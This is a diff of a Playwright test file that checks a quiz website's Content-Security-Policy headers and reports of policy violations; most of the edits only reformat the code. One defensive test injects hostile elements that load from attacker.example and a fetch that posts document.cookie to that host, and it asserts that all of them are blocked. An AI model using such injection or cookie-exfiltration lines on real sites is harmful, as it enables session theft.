@@ -12,10 +12,13 @@ type Fixtures = { readonly violations: string[] };
 const test = base.extend<Fixtures>({
   violations: async ({ page }, use) => {
     const violations: string[] = [];
+
     await page.exposeFunction('noteViolation', (violation: string) => violations.push(violation));
     await page.addInitScript(() => {
-      document.addEventListener('securitypolicyviolation', ({ effectiveDirective, blockedURI, sourceFile }) =>
-        Reflect.get(window, 'noteViolation')(`${effectiveDirective} ${blockedURI} ${sourceFile}`),
+      document.addEventListener(
+        'securitypolicyviolation',
+        ({ effectiveDirective, blockedURI, sourceFile }) =>
+          Reflect.get(window, 'noteViolation')(`${effectiveDirective} ${blockedURI} ${sourceFile}`),
       );
     });
     await use(violations);
@@ -37,9 +40,11 @@ const openGuarded = async (page: Page, path: string): Promise<void> => {
   const answer = await page.goto(path, { waitUntil: 'networkidle' });
   const directives = directivesOf((await answer?.headerValue('content-security-policy')) ?? '');
   const all = [...directives.values()].flat();
+
   for (const loose of ["'unsafe-inline'", "'unsafe-eval'", '*', 'http:', 'https:', 'blob:']) {
     expect(all, `${path} allows ${loose}`).not.toContain(loose);
   }
+
   expect(directives.get('default-src')).toEqual(["'none'"]);
   expect(directives.get('script-src')).toEqual(["'self'"]);
   expect(directives.get('connect-src')).toEqual(["'self'"]);
@@ -49,7 +54,16 @@ const openGuarded = async (page: Page, path: string): Promise<void> => {
 };
 
 const noResult = '/result/AAAAAAAAAAAAAAAAAAAAAA';
-const paths = ['/', '/about', '/contact', '/smartquiz', '/no/such/page', '/admin', '/admin/login', noResult];
+const paths = [
+  '/',
+  '/about',
+  '/contact',
+  '/smartquiz',
+  '/no/such/page',
+  '/admin',
+  '/admin/login',
+  noResult,
+];
 
 test.describe('every page keeps to its policy', () => {
   test.use({ expectedConsoleErrors: [/status of (401|404)/] });
@@ -72,6 +86,7 @@ test.describe('so does all that opens on a page', () => {
     await page.setViewportSize({ width: 390, height: 844 });
     await openGuarded(page, '/about');
     const banner = page.getByRole('region', { name: 'Cookie consent' });
+
     await banner.getByRole('button', { name: 'Customize' }).click();
     await banner.getByRole('button', { name: 'Save Preferences' }).click();
     await expect(banner).toHaveCount(0);
@@ -86,14 +101,19 @@ test.describe('so does all that opens on a page', () => {
   });
 });
 
-test('the booking calendar is the one page that may be shown in a frame', async ({ page, violations }) => {
+test('the booking calendar is the one page that may be shown in a frame', async ({
+  page,
+  violations,
+}) => {
   await page.route(
     (url) => url.hostname !== 'localhost',
     (route) => route.fulfill({ contentType: 'text/html', body: '<p>Pick a time</p>' }),
   );
   await openGuarded(page, '/contact');
   await page.getByRole('button', { name: 'Show the calendar' }).click();
-  await expect(page.frameLocator('iframe[title="Booking calendar"]').getByText('Pick a time')).toBeVisible();
+  await expect(
+    page.frameLocator('iframe[title="Booking calendar"]').getByText('Pick a time'),
+  ).toBeVisible();
   expect(violations).toEqual([]);
 });
 
@@ -103,15 +123,21 @@ test('the dashboard, its charts, a survey and the toasts', async ({ page, violat
   await signIn(page);
   await openDashboard(page);
   await page.getByRole('button', { name: 'Preview Daily Summary', exact: true }).click();
-  await expect(page.getByRole('region', { name: 'Notifications' })).toContainText('Daily Summary Preview');
+  await expect(page.getByRole('region', { name: 'Notifications' })).toContainText(
+    'Daily Summary Preview',
+  );
   await page.getByRole('button', { name: 'Clear Test Data' }).click();
   await page.getByRole('button', { name: 'Cancel' }).click();
   await openGuarded(page, '/admin/dashboard?tab=analytics');
-  await expect(panel(page, 'Funnel by question').locator('svg.recharts-surface').first()).toBeVisible();
+  await expect(
+    panel(page, 'Funnel by question').locator('svg.recharts-surface').first(),
+  ).toBeVisible();
+
   for (const tab of ['Dropouts', 'Cookies', 'Completed']) {
     await page.getByRole('tab', { name: tab }).click();
     await expect(page.getByRole('tabpanel', { name: tab })).toBeVisible();
   }
+
   await page.getByRole('tab', { name: 'Completed' }).focus();
   await page.keyboard.press('j');
   await page.keyboard.press('Enter');
@@ -124,6 +150,7 @@ test.describe('what an injected text could do', () => {
 
   test('is refused and noticed', async ({ page, violations }) => {
     const foreign: string[] = [];
+
     await page.route(
       (url) => url.hostname !== 'localhost',
       (route) => {
@@ -135,10 +162,12 @@ test.describe('what an injected text could do', () => {
     await page.evaluate(() => {
       const add = (tag: string, attributes: Record<string, string>, text = ''): void => {
         const element = document.createElement(tag);
+
         for (const [name, value] of Object.entries(attributes)) element.setAttribute(name, value);
         element.textContent = text;
         document.body.append(element);
       };
+
       add('script', {}, 'document.title = "taken over"');
       add('script', { src: 'https://attacker.example/a.js' });
       add('style', {}, 'body { display: none }');
@@ -147,7 +176,9 @@ test.describe('what an injected text could do', () => {
       add('iframe', { src: 'https://attacker.example/' });
       add('object', { data: 'https://attacker.example/' });
       add('base', { href: 'https://attacker.example/' });
-      fetch('https://attacker.example/', { method: 'POST', body: document.cookie }).catch(() => undefined);
+      fetch('https://attacker.example/', { method: 'POST', body: document.cookie }).catch(
+        () => undefined,
+      );
     });
     const directives = () => new Set(violations.map((violation) => violation.split(' ')[0]));
     const refused = [
@@ -159,6 +190,7 @@ test.describe('what an injected text could do', () => {
       'object-src',
       'base-uri',
     ];
+
     await expect.poll(() => [...directives()].sort()).toEqual([...refused, 'connect-src'].sort());
     expect(foreign).toEqual([]);
     await expect(page).toHaveTitle(/Find the right car/);
@@ -167,7 +199,10 @@ test.describe('what an injected text could do', () => {
 });
 
 test('calls of the API carry the headers, too, and allow nothing', async ({ request }) => {
-  const { headers } = await request.get('/api/me').then((answer) => ({ headers: answer.headers() }));
+  const { headers } = await request
+    .get('/api/me')
+    .then((answer) => ({ headers: answer.headers() }));
+
   expect(headers['content-security-policy']).toMatch(/^default-src 'none'; frame-ancestors 'none'/);
   expect(headers['x-content-type-options']).toBe('nosniff');
   expect(headers['strict-transport-security']).toMatch(/^max-age=\d{8,}/);
